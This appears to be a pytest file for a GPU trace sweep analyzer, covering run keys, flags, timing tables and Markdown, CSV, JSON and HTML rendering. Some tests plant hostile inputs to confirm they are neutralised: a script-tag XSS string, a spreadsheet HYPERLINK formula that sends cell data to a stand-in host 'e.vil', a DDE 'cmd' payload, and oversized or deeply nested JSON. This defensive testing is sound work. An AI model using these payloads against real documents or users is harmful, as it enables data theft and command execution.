"""Sweep keys, flags and renderings on hand-built traces (loader injected), and the CLI on real files."""
from __future__ import annotations

import json
import lzma
import shutil
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from analyzer._paths import trace_stem
from analyzer.errors import InputError, ParameterError
from analyzer.phases.cli import phase_settings, sweep
from analyzer.phases.render import render_sweep
from analyzer.phases.sweep import (
    DEFAULT_KEY_PATTERN,
    build_sweep,
    compile_key_pattern,
    key_from_name,
    key_from_trace,
    model_config_for,
)
from analyzer.phases.tests.synth import step_trace
from analyzer.phases.tests.test_public_traces import public

TRAIN = ("forward", "backward", "optimizer_step")
FB = ("forward", "backward")


def synthetic_sweep(tmp_path: Path, specs: dict[str, dict], **kwargs):
    """Create empty files named after ``specs`` and a loader that builds their traces."""
    traces = {}
    for name, spec in specs.items():
        path = tmp_path / name
        path.write_bytes(b"")
        traces[path.name] = spec
    loader = lambda p: step_trace(p.name, **traces[p.name])
    return build_sweep(sorted(tmp_path / n for n in specs), loader=loader, **kwargs)


@pytest.fixture
def result(tmp_path):
    return synthetic_sweep(tmp_path, {
        "small_forward_ctx128.sqlite": {"phases": ("forward",), "fwd_len": 100},
        "small_forward_backward_ctx128.sqlite": {"phases": FB, "backward_kernels": False},
        "small_training_ctx128.sqlite.xz": {"phases": TRAIN},
        "xl_forward_ctx1024.sqlite": {"phases": ("forward",), "fwd_len": 500, "step_len": 600,
                                      "top_kernel": "<script>alert(1)</script>"},
        "xl_training_ctx1024.sqlite": {"phases": ("forward",), "steps": 1, "step_len": 300,
                                       "marks": ("CUDA out of memory. Tried to allocate 2 GiB",)},
        "small_forward_ctx256.sqlite": {"phases": FB},
        "run7.sqlite": {"phases": TRAIN, "marks": ("config model=medium context=256 batch=8",)},
    })


def flags_of(result, model, mode, context) -> dict[str, str]:
    f = result.flags
    hit = f[(f["model"] == model) & (f["mode"] == mode) & (f["context"] == context)]
    return dict(zip(hit["check"], hit["reason"]))


def test_keys_from_file_names():
    rx = compile_key_pattern(DEFAULT_KEY_PATTERN)
    assert trace_stem("a/medium_training_ctx256.sqlite.xz") == "medium_training_ctx256"
    # one helper names runs everywhere (sweep keys, strong-scaling rank files, default report names)
    assert trace_stem("job_rank1.json.gz") == "job_rank1"
    assert trace_stem("job_rank1.pt.trace.json.xz") == "job_rank1"  # torch.profiler's names
    from analyzer.phases.scaling import group_runs  # so its rank files make one strong-scaling run

    ranks = [Path(f"ddp_straggler_2gpu_rank{i}.pt.trace.json.xz") for i in (0, 1)]
    assert group_runs([Path("ddp_1gpu.pt.trace.json.xz"), *ranks]) == [[Path("ddp_1gpu.pt.trace.json.xz")], ranks]
    assert trace_stem("base.JSON") == "base"
    assert trace_stem("kernels.ncu-rep") == "kernels"
    assert trace_stem(".sqlite") == ".sqlite"
    assert key_from_name("medium_training_ctx256.sqlite.xz", rx) == {
        "model": "medium", "mode": "training", "context": 256}
    assert key_from_name("small_forward_backward_ctx512.sqlite", rx)["mode"] == "forward_backward"
    assert key_from_name("2.7B_forward_ctx1024.sqlite", rx)["model"] == "2.7B"
    assert key_from_name("run7.sqlite", rx) is None
    with pytest.raises(ParameterError, match="no named groups"):
        compile_key_pattern(r"\d+")
    with pytest.raises(ParameterError, match="invalid --key-pattern"):
        compile_key_pattern("(")


def test_key_fallback_from_nvtx():
    key, source = key_from_trace(step_trace("x", phases=TRAIN, marks=("model=medium ctx 256",)))
    assert key == {"model": "medium", "context": 256, "mode": "training"}
    assert "nvtx" in source and "mode from ranges" in source


def test_forward_table(result):
    fwd = result.forward.set_index(["model", "mode", "context"])
    small = fwd.loc[("small", "forward", 128)]
    assert small["steps"] == 3 and small["cpu_mean_ms"] == pytest.approx(100e-6)
    assert small["cpu_std_ms"] == 0 and small["gpu_mean_ms"] == pytest.approx(20e-6)
    # ordered by preset model order, mode, context
    assert list(result.forward["model"]) == ["small"] * 4 + ["medium", "xl", "xl"]


def test_training_breakdown(result):
    tr = result.training.set_index(["model", "mode", "context"]).loc[("small", "training", 128)]
    assert tr["step_cpu_ms"] == pytest.approx(400e-6)
    assert tr["forward_cpu_pct"] == pytest.approx(25.0)
    assert tr["backward_gpu_ms"] == pytest.approx(10e-6)
    assert tr["residual_cpu_ms"] == pytest.approx((400 - 300) * 1e-6)
    assert tr["flags"] == ""


def test_flags(result):
    assert flags_of(result, "small", "training", 128) == {}
    assert "no_backward" in flags_of(result, "small", "forward_backward", 128)
    xl = flags_of(result, "xl", "training", 1024)
    assert "xl forward ctx1024" in xl["step_shorter_than_forward"]
    assert "mode_mismatch" in xl and "no_backward" not in xl  # labelled training, only forward ranges
    rows = result.flags[(result.flags["model"] == "xl") & (result.flags["check"] == "stopped_early")]
    reasons = " ".join(rows["reason"])
    assert "CUDA out of memory" in reasons and "1 measured steps, most runs have 3" in reasons
    mismatch = flags_of(result, "small", "forward", 256)
    assert mismatch["mode_mismatch"] == "mode 'forward' but has backward"
    # every table row of a flagged run carries the flags
    tk = result.top_kernel.set_index(["model", "mode", "context"])
    assert tk.loc[("small", "forward_backward", 128), "flags"] == "no_backward"
    assert tk.loc[("xl", "training", 1024), "flags"] == (
        "stopped_early, mode_mismatch, step_shorter_than_forward")


def test_fallback_keyed_run(result):
    runs = result.runs.set_index("path")
    run7 = runs.loc[next(p for p in runs.index if p.endswith("run7.sqlite"))]
    assert (run7["model"], run7["mode"], run7["context"]) == ("medium", "training", 256)
    assert "nvtx" in run7["key_source"]
    att = result.attention
    assert att.empty  # no attention ranges in these traces


def test_top_kernel(result):
    tk = result.top_kernel.set_index(["model", "mode", "context"])
    small = tk.loc[("small", "forward", 128)]
    assert small["kernel"] == "ampere_sgemm_128x64" and small["count"] == 3
    assert small["mean_us"] == pytest.approx(0.02) and small["share"] == 1.0


def test_expected_steps(tmp_path):
    r = synthetic_sweep(tmp_path, {"small_forward_ctx128.sqlite": {"steps": 3}}, expected_steps=5)
    assert "3 measured steps, expected 5" in r.flags["reason"].iloc[0]
    with pytest.raises(ParameterError):
        build_sweep([tmp_path], expected_steps=0, loader=lambda p: None)
    with pytest.raises(ParameterError, match="no trace files"):
        build_sweep([])


def test_manifest_exit_code_marks_oom(tmp_path):
    (tmp_path / "manifest.jsonl").write_text(json.dumps({"name": "small_training_ctx128", "exit_code": 3})
                                             + "\nnot json\n")
    r = synthetic_sweep(tmp_path, {"small_training_ctx128.sqlite": {"phases": TRAIN}})
    assert "exited with code 3 (out of GPU memory)" in r.flags["reason"].iloc[0]


def test_a_folder_gives_its_torch_profiler_traces_too(tmp_path):
    """`analyze sweep FOLDER` read only *.sqlite[.xz] and sidecars: a folder of torch.profiler traces
    ended in "no trace files given". Traces are recognised by content, as `analyze FOLDER` does."""
    import shutil

    from analyzer.phases.sweep import expand_paths
    from analyzer.testing import DATA_DIR

    shutil.copyfile(DATA_DIR / "kineto" / "healthy.pt.trace.json.gz", tmp_path / "healthy.pt.trace.json.gz")
    (tmp_path / "small_forward_ctx128.sqlite").write_bytes(b"")
    (tmp_path / "small_forward_ctx128.pytime.json").write_text("{}")
    (tmp_path / "manifest.jsonl").write_text('{"name": "x"}\n')
    (tmp_path / "run.log.gz").write_bytes(b"\x1f\x8b not a trace")
    assert [p.name for p in expand_paths([tmp_path])] == [
        "healthy.pt.trace.json.gz", "small_forward_ctx128.pytime.json", "small_forward_ctx128.sqlite"]


def test_load_errors_are_flagged_or_raised(tmp_path):
    bad = tmp_path / "small_forward_ctx128.sqlite"
    bad.write_text("not a trace")

    def loader(p: Path):
        raise InputError(p, "not an nsys export")

    r = build_sweep([bad], loader=loader)
    assert r.flags["check"].tolist() == ["load_error"] and r.forward.empty
    assert "not an nsys export" in r.runs["error"].iloc[0]
    with pytest.raises(InputError):
        build_sweep([bad], loader=loader, strict=True)


def test_model_config_provenance():
    cfg = model_config_for({"model": "small", "context": 128})
    assert (cfg.d_model, cfg.heads, cfg.context, cfg.batch) == (768, 12, 128, 4)
    assert "preset 'small'" in cfg.source and "batch 4 assumed" in cfg.source
    own = model_config_for({"model": "tiny", "d_model": 64, "heads": 4, "batch": 2})
    assert own.d_head == 16 and "file-name key" in own.source
    assert model_config_for({"model": "unknown"}) is None


def test_render_markdown(result):
    md = render_sweep(result, "md")
    assert "## Forward pass, CPU wall" in md and "| small | forward |" in md
    assert "0.00 ± 0.00" in md and "## Rows that cannot be right" in md
    assert "no_backward" in md


def test_render_csv(result, tmp_path):
    out = tmp_path / "csv"
    written = render_sweep(result, "csv", out).split()
    assert sorted(Path(p).name for p in written) == sorted(f"{n}.csv" for n in result.tables())
    back = pd.read_csv(out / "forward.csv")
    assert back["cpu_mean_ms"].iloc[0] == pytest.approx(result.forward["cpu_mean_ms"].iloc[0])
    with pytest.raises(ParameterError, match="needs a directory"):
        render_sweep(result, "csv")
    with pytest.raises(ParameterError, match="unknown sweep format"):
        render_sweep(result, "pdf")


def test_render_json(result, tmp_path):
    doc = json.loads(render_sweep(result, "json", tmp_path))
    assert doc["schema"] == "analyzer.sweep/1" and set(doc["tables"]) == set(result.tables())
    assert doc["checks"]["async_range"].startswith("a phase range ends well before its GPU work")
    first = doc["tables"]["forward"][0]
    assert first["model"] == "small" and first["cpu_mean_ms"] == pytest.approx(result.forward["cpu_mean_ms"].iloc[0])
    assert (tmp_path / "sweep.json").is_file()


def test_render_html_escapes_trace_strings(result, tmp_path):
    html = render_sweep(result, "html", tmp_path)
    assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert (tmp_path / "sweep.html").read_text() == html
    assert html.startswith("<!DOCTYPE html>") and "<link" not in html and "src=" not in html


def test_phase_settings():
    assert phase_settings() == {"phase_exclude": ("warmup*",), "phase_include": None}
    assert phase_settings(("none",))["phase_exclude"] == ()
    assert phase_settings(("setup", "warmup*"), "step_*") == {
        "phase_exclude": ("setup", "warmup*"), "phase_include": "step_*"}
    with pytest.raises(ParameterError):
        phase_settings((), "re:(")


def test_cli_on_public_traces(tmp_path):
    src = public("LeiWang1999__memfusion_artifact__report1.sqlite")
    (tmp_path / "small_forward_ctx128.sqlite").symlink_to(src)
    with lzma.open(tmp_path / "small_forward_ctx256.sqlite.xz", "wb") as dst, open(src, "rb") as fh:
        shutil.copyfileobj(fh, dst)
    runner = CliRunner()
    res = runner.invoke(sweep, [str(tmp_path), "--format", "md"])
    assert res.exit_code == 0, res.output
    # table cells are escaped as the reports' (names from a trace are text, never Markdown)
    from analyzer.reports.markdown import md_text

    assert md_text("small_forward_ctx256.sqlite.xz") in res.output
    assert md_text("no measured step_N ranges") in res.output
    assert md_text("sm80_xmma_fprop_implicit_gemm") in res.output  # top kernel of the public trace
    out = tmp_path / "out"
    res = runner.invoke(sweep, [str(tmp_path / "small_forward_ctx128.sqlite"), "--format", "csv",
                                "-o", str(out)])
    assert res.exit_code == 0 and (out / "top_kernel.csv").is_file()
    res = runner.invoke(sweep, [str(tmp_path / "missing.sqlite"), "--strict"])
    assert res.exit_code == 2 and "no such file" in res.output
    res = runner.invoke(sweep, [str(tmp_path), "--format", "csv"])
    assert res.exit_code == 2 and "--output" in res.output
    res = runner.invoke(sweep, [str(tmp_path), "--key-pattern", "("])
    assert res.exit_code == 2 and "invalid --key-pattern" in res.output


def test_unkeyed_run_without_context(tmp_path):
    r = synthetic_sweep(tmp_path, {"small_forward_ctx128.sqlite": {"steps": 3},
                                   "mystery.sqlite": {"steps": 1}})
    runs = r.runs.set_index("model")
    assert runs.loc["mystery", "mode"] == "forward" and pd.isna(runs.loc["mystery", "context"])
    assert runs.loc["mystery", "key_source"] == "mode from ranges"
    assert r.flags.empty  # step counts are compared within the file-name keyed campaign only
    md = render_sweep(r, "md")
    assert "| model | mode | ctx128 | no ctx |" in md and "| mystery | forward | n/a |" in md


# -- asynchronous timing, Python sidecars, lost configurations --------------------------------------
MS_ = 1_000_000


def timed_trace(name: str, *, fwd_cpu: float, fwd_gpu: float, bwd_cpu: float = 0, bwd_gpu: float = 0,
                steps: int = 3):
    """``steps`` step_N ranges (ms scale), each: forward [+1, +1+fwd_cpu) launching one kernel at +1.1
    that runs fwd_gpu ms; optionally backward right after forward's range, launching one kernel at its
    start that runs bwd_gpu ms (queued behind forward's); then a cudaDeviceSynchronize up to the end
    of the GPU work and the step's end 0.5 ms later."""
    from analyzer.phases.tests.synth import make_trace

    ranges, ops, api = [(0, "warmup", 0, MS_, -1, 1)], [], []
    rid = 1
    for s in range(steps):
        b = (s + 1) * 10_000 * MS_
        f0, f1 = b + MS_, b + int((1 + fwd_cpu) * MS_)
        k0 = b + int(1.2 * MS_)
        k1 = k0 + int(fwd_gpu * MS_)
        step, fwd = rid, rid + 1
        rid += 2
        ranges += [(fwd, "forward", f0, f1, step, 1)]
        ops.append(("kernel", "gemm", k0, k1, fwd, 1, b + int(1.1 * MS_)))
        gpu_end = k1
        if bwd_cpu:
            bwd = rid
            rid += 1
            b1 = f1 + int(bwd_cpu * MS_)
            ranges.append((bwd, "backward", f1, b1, step, 1))
            g0 = max(k1, f1 + MS_ // 10)
            gpu_end = g0 + int(bwd_gpu * MS_)
            ops.append(("kernel", "gemm_bwd", g0, gpu_end, bwd, 1, f1))
            cpu_end = b1
        else:
            cpu_end = f1
        sync_end = max(gpu_end, cpu_end) + MS_ // 100
        api.append(("cudaDeviceSynchronize", cpu_end, sync_end, step, 1))
        ranges.append((step, f"step_{s}", b, sync_end + MS_ // 2, -1, 1))
    return make_trace(ranges, ops, name=name, api=api)


def timed_sweep(tmp_path: Path, specs: dict[str, dict], sidecars: dict[str, dict] | None = None):
    for name in specs:
        (tmp_path / name).write_bytes(b"")
    for stem, record in (sidecars or {}).items():
        (tmp_path / f"{stem}.pytime.json").write_text(json.dumps(record))
    loader = lambda p: timed_trace(p.name, **specs[p.name])
    return build_sweep([tmp_path], loader=loader)


def pytime(model, mode, ctx, **phases):
    return {"schema": "workloads.pytime/1", "workload": "transformer", "status": "ok",
            "config": {"model": model, "context": ctx, "mode": mode, "batch": 4, "dtype": "fp32"},
            "phases": {p: {"n": 3, "mean_ms": v, "std_ms": 0.1, "median_ms": v} for p, v in phases.items()}}


def test_async_forward_is_read_from_the_gpu_timeline_and_explains_non_monotonic_rows(tmp_path):
    r = timed_sweep(tmp_path, {
        "small_forward_ctx128.sqlite": {"fwd_cpu": 10, "fwd_gpu": 4},  # launch-bound
        "small_forward_ctx256.sqlite": {"fwd_cpu": 6, "fwd_gpu": 30},  # the range times its launches
        "medium_forward_ctx128.sqlite": {"fwd_cpu": 11, "fwd_gpu": 8},
        "medium_forward_ctx256.sqlite": {"fwd_cpu": 12, "fwd_gpu": 20},  # slower than small ctx256 by GPU
    }, {"small_forward_ctx256": pytime("small", "forward", 256, forward=30.3, step=30.4)})
    fwd = r.forward.set_index(["model", "context"])
    small256 = fwd.loc[("small", 256)]
    assert small256["cpu_mean_ms"] == pytest.approx(6) and small256["span_mean_ms"] == pytest.approx(30)
    assert small256["forward_ms"] == pytest.approx(30.2) and small256["measured_by"] == "GPU timeline"
    assert small256["waited"] == "no" and small256["python_ms"] == pytest.approx(30.3)
    assert fwd.loc[("small", 128), "measured_by"] == "CPU wall" and fwd.loc[("small", 128), "forward_ms"] == 10
    flags = flags_of(r, "small", "forward", 256)
    assert flags["async_range"].startswith("forward ends before its GPU work: CPU wall 6.00 ms per instance, "
                                           "GPU span 30.00 ms (5.0x; none of 3 instances waited)")
    assert flags["not_monotonic"] == (
        "forward pass CPU wall 6.00 ms is shorter than 10.00 ms at ctx128; explained by asynchronous "
        "timing: the forward ranges end before their GPU work, and by phase time (read from the GPU "
        "timeline) it takes 30.20 ms against 10.00 ms")
    # by model size: medium ctx256 (20.2 ms by phase time) is faster than small ctx256 (30.2 ms) by
    # phase time too, so asynchronous timing does not explain it
    medium = flags_of(r, "medium", "forward", 256)
    assert "not explained by asynchronous timing" in medium["not_monotonic"]
    assert "small (a smaller model)" in medium["not_monotonic"]
    timing = r.timing.set_index(["model", "context", "phase"])
    row = timing.loc[("small", 256, "forward")]
    assert row["python_vs_time"] == pytest.approx(30.3 / 30.2) and row["python_vs_cpu"] == pytest.approx(30.3 / 6)
    assert timing.loc[("small", 256, "step"), "python_ms"] == pytest.approx(30.4)
    assert "python_disagrees" not in flags
    md = render_sweep(r, "md")
    assert "## Forward pass time (ms per step, mean ± std)" in md and "30.20 ± 0.00 \\[gpu\\]" in md  # [ escaped
    assert "## nsys against Python (ms per step)" in md and "30.30 ± 0.10 (n=3)" in md


def test_residual_catch_up_and_python_disagreement(tmp_path):
    r = timed_sweep(tmp_path, {
        "small_forward_backward_ctx128.sqlite": {"fwd_cpu": 5, "fwd_gpu": 40, "bwd_cpu": 10, "bwd_gpu": 80},
    }, {"small_forward_backward_ctx128": pytime("small", "forward_backward", 128, forward=40.2, backward=20.0)})
    flags = flags_of(r, "small", "forward_backward", 128)
    # the step: 1 ms, forward 5 ms, backward 10 ms, then the sync waits until 1.2 + 40 + 80 = 121.2 ms
    assert "the residual is" in flags["residual_catch_up"] and "(forward, backward)" in flags["residual_catch_up"]
    tr = r.training.iloc[0]
    assert tr["forward_time_ms"] == pytest.approx(40.2) and tr["forward_measured_by"] == "GPU timeline"
    # backward queued behind forward's work: its phase time starts when that work ended (41.2 ms)
    assert tr["backward_time_ms"] == pytest.approx(80) and tr["residual_sync_ms"] == pytest.approx(105.21)
    assert tr["residual_time_pct"] < 2
    assert flags["python_disagrees"].startswith("backward: Python (synchronized, n=3) 20.00 ms, the trace's "
                                                "phase time 80.00 ms (0.25x")


def test_oom_sidecar_and_lost_configurations(tmp_path):
    specs = {f"{m}_{mode}_ctx{c}.sqlite": {"fwd_cpu": 10, "fwd_gpu": 4 + i}
             for i, (m, mode, c) in enumerate((m, mode, c) for m in ("small", "medium") for mode in ("forward",)
                                              for c in (128, 256, 512, 1024))}
    del specs["medium_forward_ctx1024.sqlite"]  # ran out of memory: only its sidecar
    del specs["small_forward_ctx512.sqlite"]  # lost: neither trace nor sidecar
    oom = {"schema": "workloads.pytime/1", "status": "oom", "error": "CUDA out of memory. Tried to allocate",
           "config": {"model": "medium", "context": 1024, "mode": "forward"}}
    r = timed_sweep(tmp_path, specs, {"medium_forward_ctx1024": oom})
    runs = r.runs.set_index(["model", "context"])
    assert "did not fit in GPU memory" in runs.loc[("medium", 1024), "error"]
    assert flags_of(r, "medium", "forward", 1024)["stopped_early"].startswith("did not fit in GPU memory")
    assert "has no trace or .pytime.json" in flags_of(r, "small", "forward", 512)["missing"]
    assert set(r.forward["context"]) == {128, 256, 512, 1024} and len(r.forward) == 6
    md = render_sweep(r, "md")
    assert "medium\\_forward\\_ctx1024.pytime.json" in md  # a file name from the run: escaped text


def test_broken_sidecars_are_reported_not_fatal(tmp_path):
    (tmp_path / "small_forward_ctx128.sqlite").write_bytes(b"")
    (tmp_path / "small_forward_ctx128.pytime.json").write_text("{not json")
    (tmp_path / "small_forward_ctx256.pytime.json").write_text(json.dumps(pytime("small", "forward", 256,
                                                                                 forward=1.0)))
    r = build_sweep([tmp_path], loader=lambda p: timed_trace(p.name, fwd_cpu=10, fwd_gpu=4))
    runs = r.runs.set_index("context")
    assert "not readable JSON" in runs.loc[128, "python"]
    assert flags_of(r, "small", "forward", 256)["load_error"].endswith("has no trace small_forward_ctx256.sqlite[.xz] "
                                                                        "beside it")


def test_hostile_sidecars_are_skipped_or_reported_not_fatal(tmp_path):
    """A manifest.jsonl line and a pytime sidecar with an integer of 5,000 digits (Python's int()
    refuses it with ValueError, which is not a JSONDecodeError) or nested 100,000 deep: before, the first
    ended `analyze sweep` in an internal error (exit 3). Now the line is skipped and the sidecar reported."""
    (tmp_path / "manifest.jsonl").write_text('{"name": "small_forward_ctx128", "exit_code": ' + "9" * 5000 + "}\n"
                                             + "[" * 100_000 + "\n"
                                             + json.dumps({"name": "small_training_ctx128", "exit_code": 3}) + "\n")
    (tmp_path / "small_forward_ctx128.pytime.json").write_text('{"schema": ' + "9" * 5000 + "}")
    (tmp_path / "small_forward_ctx256.pytime.json").write_text("[" * 100_000)
    r = synthetic_sweep(tmp_path, {"small_forward_ctx128.sqlite": {"steps": 3},
                                   "small_forward_ctx256.sqlite": {"steps": 3},
                                   "small_training_ctx128.sqlite": {"phases": TRAIN}})
    runs = r.runs.set_index(["mode", "context"])
    assert "not readable JSON (ValueError" in runs.loc[("forward", 128), "python"]
    assert "not readable JSON (RecursionError" in runs.loc[("forward", 256), "python"]
    assert any("exited with code 3 (out of GPU memory)" in reason  # the manifest's good line still counts
               for reason in flags_of(r, "small", "training", 128).values())


def test_async_thresholds_come_from_the_rule_pack(tmp_path):
    from analyzer.phases.sweep import async_thresholds
    from analyzer.pipeline import default_rules_path

    assert async_thresholds() == (1.25, 1_000_000)
    text = default_rules_path().read_text()
    custom = tmp_path / "pack.yaml"
    custom.write_text(text.replace("        default: 1.25\n", "        default: 2.5\n", 1))
    assert async_thresholds(custom) == (2.5, 1_000_000)


def test_csv_cells_from_a_trace_never_run_as_spreadsheet_formulas(tmp_path):
    """A kernel name read from the trace that starts like a formula (``=HYPERLINK("http://...")``, here
    written into a copy of the real xl_forward_ctx1024 export) was written to the CSV as it is, so a
    spreadsheet opening the sweep table ran it. Text cells starting with = + - @ (or a tab or carriage
    return) now carry a leading apostrophe; numbers, negative ones included, stay numbers."""
    import csv
    import lzma
    import shutil
    import sqlite3

    from analyzer.phases.render import csv_inert

    data = Path(__file__).resolve().parents[3] / "tests" / "data" / "sweep"
    trace = tmp_path / "xl_forward_ctx1024.sqlite"
    trace.write_bytes(lzma.decompress((data / "xl_forward_ctx1024.sqlite.xz").read_bytes()))
    shutil.copyfile(data / "xl_forward_ctx1024.pytime.json", tmp_path / "xl_forward_ctx1024.pytime.json")
    evil = '=HYPERLINK("http://e.vil/?"&A1,"x")'
    con = sqlite3.connect(trace)
    with con:
        con.execute("UPDATE StringIds SET value = ? || value WHERE id IN (SELECT shortName FROM "
                    "CUPTI_ACTIVITY_KIND_KERNEL UNION SELECT demangledName FROM CUPTI_ACTIVITY_KIND_KERNEL)", (evil,))
    con.close()
    out = tmp_path / "csv"
    render_sweep(build_sweep([trace]), "csv", out)
    cells = [c for f in sorted(out.glob("*.csv")) for row in csv.reader(f.open()) for c in row]
    assert any(c.startswith("'" + evil) for c in cells)  # the name is there, as text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    frame = pd.DataFrame({"name": ["-cmd|' /C calc'!A0", "+1", "ok", None], "residual": [-2.5, 1.0, 0.0, 3.0]})
    inert = csv_inert(frame)
    assert inert["name"].tolist()[:3] == ["'-cmd|' /C calc'!A0", "'+1", "ok"] and pd.isna(inert["name"].iloc[3])
    assert inert["residual"].tolist() == [-2.5, 1.0, 0.0, 3.0] and frame["name"].iloc[0].startswith("-")
